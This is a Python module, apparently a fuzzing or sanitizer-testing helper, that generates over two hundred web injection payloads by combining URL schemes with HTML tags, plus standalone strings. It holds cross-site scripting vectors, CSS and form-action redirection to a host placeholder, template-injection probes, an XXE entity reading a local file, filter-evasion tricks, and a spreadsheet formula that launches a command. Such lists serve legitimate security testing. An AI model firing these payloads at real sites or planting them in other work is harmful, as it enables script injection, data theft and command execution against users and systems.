"""More than two hundred ways to make a page do something, from few parts."""

from __future__ import annotations

from itertools import product

_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>1</script>", "vbscript:x", "file://{canary}", "//{host}/x", "http://{host}/x",
    "https://{host}/x", "ftp://{host}/x", "smb://{host}/x", "jar:http://{host}/x!/", "blob:x", "about:blank",
    "view-source:http://{host}/x", "\\\\{host}\\x",
)  # fmt: skip
_HOLDERS = (
    "<a href={url}>x</a>", '"><a href="{url}">x</a>', "'><img src='{url}'>", "<img src={url}>",
    "<link rel=stylesheet href={url}>", "<link rel=attachment href='{url}'>", "<iframe src={url}></iframe>",
    "<object data={url}></object>", "<embed src={url}>", "<svg><image href='{url}'/></svg>",
    "<style>@import url({url})</style>",
)  # fmt: skip
_SINGLE = (
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "</title><script>1</script>",
    "</style><script>1</script>", "<svg onload=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
    "<body onload=alert(1)>", "<input onfocus=alert(1) autofocus>", "<details ontoggle=alert(1) open>",
    '" style="background:url(http://{host}/s)', "x;background:url(http://{host}/s)", "}} body{{background:url(http://{host}/s)}}",
    "expression(alert(1))", "<base href=http://{host}/>", "<meta http-equiv=refresh content=0;url=http://{host}/>",
    "<form action=http://{host}/><button>x", "<math><maction xlink:href=http://{host}/>x", "<!--", "-->", "]]>", "<![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E", "＜script＞",
    "{{{{ 7 * 7 }}}}", "{{% include '{canary}' %}}", "{{{{ ''.__class__.__mro__ }}}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>",
    "url(file://{canary})", "attr(data-x url)", "<noscript><p title='</noscript><img src=x onerror=1>'>", "<template><img src={canary}></template>",
    "<a href='#x' rel=attachment>x</a>", "<table background=http://{host}/b>", "<audio src=http://{host}/a>", "<video poster=http://{host}/v>",
    "<isindex action=http://{host}/>", "<xml><?xml-stylesheet href='http://{host}/x'?></xml>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{canary}'>]>&e;",
    "\u202e<script>\u202d", "\x00<script>", "<scr\x00ipt>", "<p id=x><p id=x>", "#", "\"'`<>&", "a" * 3_000, "\u2028<script>", "=cmd|' /C calc'!A0",
    "<input type=file>", "<a download href=x>", "<ping>", "<portal src=http://{host}/>", "<frame src=http://{host}/>", "<applet code=x>",
)  # fmt: skip


def payloads(canary: str = "/nonexistent", host: str = "127.0.0.1:9") -> list[str]:
    """All of them, aimed at a file and a listener."""
    urls = [scheme.format(canary=canary, host=host) for scheme in _SCHEMES]
    held = [holder.format(url=url) for holder, url in product(_HOLDERS, urls)]
    return [*held, *urls, *(single.format(canary=canary, host=host) for single in _SINGLE)]
